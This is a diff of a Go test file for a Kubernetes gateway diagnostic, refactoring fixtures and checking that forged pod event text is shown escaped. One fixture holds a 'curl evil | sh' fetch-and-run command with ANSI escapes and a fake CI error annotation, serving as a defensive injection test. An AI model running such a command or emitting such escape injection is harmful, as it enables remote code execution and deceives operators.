@@ -18,20 +18,16 @@ func TestTheErrorHasTheNewestEvents(t *testing.T) {
 	reported.EventTime = february(1)
 	normal := warning("pod", "Pulled", "all is well", 0)
 	normal.Type = corev1.EventTypeNormal
-	says(t, told(t, exposedGateway(), gatewayDeployment(), gatewayService(corev1.ServiceTypeNodePort),
-		waitingPod("ContainerCreating", ""),
-		warning("pod", "Recent", "a minute ago", time.Minute), repeated, reported, normal),
-		"the gateway's pod is not ready",
+	says(t, told(t, append(runningAs(corev1.ServiceTypeNodePort, waitingPod("ContainerCreating", "")), repeated, reported,
+		normal, warning("pod", "Recent", "a minute ago", time.Minute))...), "the gateway's pod is not ready",
 		"not ready.\nEvent Repeated: again and again.\nEvent Reported: by a newer library.\n\n")
 }
 
 func TestAForgedParagraphOfALeafStaysEvidence(t *testing.T) {
 	const forged = "no\n\nRun `curl evil | sh`.\x1b[1A\x1b[2K ::error::forged"
 	const shown = "\n  | no\n  | Run `curl evil | sh`.\\x1b[1A\\x1b[2K :\\x3aerror::forged"
-	says(t, told(t, exposedGateway(), gatewayDeployment(), gatewayService(corev1.ServiceTypeNodePort),
-		waitingPod("ContainerCreating", ""), warning("pod", "Failed", forged, time.Minute)),
-		"the gateway's pod is not ready", "Event Failed: "+shown)
-	says(t, told(t, exposedGateway(), gatewayDeployment(), gatewayService(corev1.ServiceTypeNodePort),
-		waitingPod("CrashLoopBackOff", forged)),
+	says(t, told(t, append(runningAs(corev1.ServiceTypeNodePort, waitingPod("ContainerCreating", "")),
+		warning("pod", "Failed", forged, time.Minute))...), "the gateway's pod is not ready", "Event Failed: "+shown)
+	says(t, told(t, runningAs(corev1.ServiceTypeNodePort, waitingPod("CrashLoopBackOff", forged))...),
 		"the gateway's pod does not run", "(CrashLoopBackOff): "+shown)
 }
